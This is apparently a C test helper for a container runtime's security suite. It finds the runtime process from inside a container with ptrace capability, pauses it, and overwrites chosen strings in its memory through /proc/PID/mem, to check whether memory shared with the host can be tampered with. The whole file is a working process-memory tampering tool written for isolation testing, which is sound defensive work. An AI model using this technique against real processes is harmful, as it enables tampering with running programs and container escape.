/*
 * sec-mem-attack SECONDS OUTFILE NEEDLE REPLACEMENT - the /proc/<pid>/mem
 * attacker, run inside a container with CAP_SYS_PTRACE by
 * tests/integration/test-security.sh.
 *
 * For up to SECONDS it scans /proc for a runtime process in the container
 * (its exe link names "hutch"), stops it (SIGSTOP), replaces every copy of
 * NEEDLE in its writable memory with REPLACEMENT (same length) through
 * /proc/PID/mem, and lets it go on (SIGCONT).  If that process shared its
 * memory with the runtime on the host, the host side now uses
 * REPLACEMENT.  One line per step in OUTFILE:
 *   ready              scanning
 *   found PID          a runtime process was seen
 *   wrote PID N        N copies of NEEDLE were replaced in its memory
 *   not-found          none was seen in time
 * Built with `cc -static -o DIR/sec-mem-attack sec-mem-attack.c`.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double
now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static pid_t
find_runtime(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	pid_t found = 0;

	while (d && !found && (e = readdir(d))) {
		char path[300], link[512];
		ssize_t n;

		if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		n = readlink(path, link, sizeof(link) - 1);
		if (n <= 0)
			continue;
		link[n] = '\0';
		if (strstr(link, "hutch"))
			found = atoi(e->d_name);
	}
	if (d)
		closedir(d);
	return found;
}

/* Replace needle in every writable mapping of pid; the count. */
static int
patch(pid_t pid, const char *needle, const char *repl)
{
	char path[64], line[512];
	size_t len = strlen(needle);
	int mem, count = 0;
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
	maps = fopen(path, "r");
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	mem = open(path, O_RDWR);
	if (!maps || mem < 0)
		return -1;
	while (fgets(line, sizeof(line), maps)) {
		unsigned long lo, hi;
		char perms[5];
		char *buf;

		if (sscanf(line, "%lx-%lx %4s", &lo, &hi, perms) != 3 || perms[1] != 'w' ||
		    hi - lo > (64ul << 20))
			continue;
		buf = malloc(hi - lo);
		if (!buf || pread(mem, buf, hi - lo, (off_t)lo) != (ssize_t)(hi - lo)) {
			free(buf);
			continue;
		}
		for (size_t i = 0; i + len <= hi - lo; i++)
			if (memcmp(buf + i, needle, len) == 0 &&
			    pwrite(mem, repl, len, (off_t)(lo + i)) == (ssize_t)len)
				count++;
		free(buf);
	}
	fclose(maps);
	close(mem);
	return count;
}

int
main(int argc, char **argv)
{
	double deadline;
	FILE *out;
	pid_t pid = 0;

	if (argc != 5 || strlen(argv[3]) != strlen(argv[4])) {
		fprintf(stderr, "usage: sec-mem-attack SECONDS OUTFILE NEEDLE REPLACEMENT\n");
		return 64;
	}
	deadline = now() + atof(argv[1]);
	out = fopen(argv[2], "w");
	if (!out)
		return 65;
	setvbuf(out, NULL, _IOLBF, 0);
	fprintf(out, "ready\n");
	while (!pid && now() < deadline)
		pid = find_runtime();
	if (!pid) {
		fprintf(out, "not-found\n");
		return 2;
	}
	kill(pid, SIGSTOP);
	fprintf(out, "found %d\n", (int)pid);
	fprintf(out, "wrote %d %d\n", (int)pid, patch(pid, argv[3], argv[4]));
	kill(pid, SIGCONT);
	/* stay: the container lives until the test deletes it */
	while (now() < deadline + 30)
		sleep(1);
	return 0;
}
